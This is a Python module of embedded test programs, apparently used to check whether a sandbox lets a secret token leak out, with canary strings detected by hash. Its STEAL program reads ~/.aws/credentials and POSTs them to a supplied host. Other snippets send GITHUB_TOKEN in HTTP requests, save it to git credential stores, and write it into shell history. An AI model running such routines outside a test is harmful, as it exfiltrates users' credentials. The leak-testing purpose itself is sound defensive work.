"""Programs that run inside and do with a secret what must not come off. `ENDED` is what is said after them.

They never hold a canary: what a variable has is put in where a text says TOKEN or the variable's name behind a `$`, and
what is searched for is a hash.
"""

from __future__ import annotations

ENDED = "came to its end"
# place, and as JSON pairs of a port and the requests for it, with \r\n spelled out, and LARGE for 8 MiB. Prints the
# answers.
SEND = r"""
import base64, json, os, socket, sys
token = os.environ.get("GITHUB_TOKEN", "")
basic = base64.b64encode(("user:" + token).encode()).decode()
for port, texts in json.loads(sys.argv[2]):
    for text in texts:
        text = os.path.expandvars(text).replace("TOKEN", token).replace("BASIC", basic)
        request = text.encode().decode("unicode_escape").encode().replace(b"LARGE", bytes(8 << 20))
        try:
            with socket.create_connection((sys.argv[1], port), timeout=20) as ours:
                ours.sendall(request)
                ours.shutdown(socket.SHUT_WR)  # nobody has to wait for the rest of half a request
                while True:
                    came = ours.recv(65536)
                    if not came:
                        break
                    sys.stdout.write(came.decode(errors="replace"))
        except OSError as error:
            print(error)
print()
"""
# After those two, a hash and directories: where there is a canary with that hash, in files and in what processes show.
SEARCH = r"""
import hashlib, os, re, sys
wanted, *tops = sys.argv[3:]
def look(path):
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            content = file.read(1 << 20) or b""
    except OSError:
        return
    if any(hashlib.sha256(found).hexdigest() == wanted for found in re.findall(rb"canary-[0-9a-f]{32}", content)):
        print("read", path)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo"):
        look("/proc/%s/%s" % (pid, name))
for top in tops:
    for directory, _, names in os.walk(top):
        for name in names:
            look(os.path.join(directory, name))
"""
# place, port, seconds: sends a file of the home to a service, and goes on.
STEAL = r"""
import os, socket, sys, time
print("began", flush=True)
content = open(os.environ["HOME"] + "/.aws/credentials", "rb").read()
head = "POST /stolen HTTP/1.1\r\nHost: %s:%s\r\nContent-Length: %d\r\n\r\n" % (sys.argv[1], sys.argv[2], len(content))
try:
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20) as ours:
        ours.sendall(head.encode() + content)
        ours.recv(100)
except OSError:
    pass
time.sleep(float(sys.argv[3]))
"""
# For the shell, whose words are a program and what that is told.
USE = 'python3 -c "$@" || exit\n'
# For the shell: git is told to keep what the variable holds, in the repository and in the home.
STORE = """
printf 'protocol=https\\nhost=api.example.test\\nusername=person\\npassword=%s\\n\\n' "$GITHUB_TOKEN" > asked
git -c credential.helper='store --file=.stored-by-git' credential approve < asked
git -c credential.helper=store credential approve < asked
git config credential.helper store
git config http.extraheader "Authorization: Bearer $GITHUB_TOKEN"
rm asked
"""
# For the shell: typed, tried out and logged.
REMEMBER = """
echo "curl -H 'Authorization: Bearer $GITHUB_TOKEN'" >> "$HOME/.bash_history"
echo "token = '$GITHUB_TOKEN'" >> "$HOME/.python_history"
echo "remembered: $GITHUB_TOKEN" >> remembered.log
"""
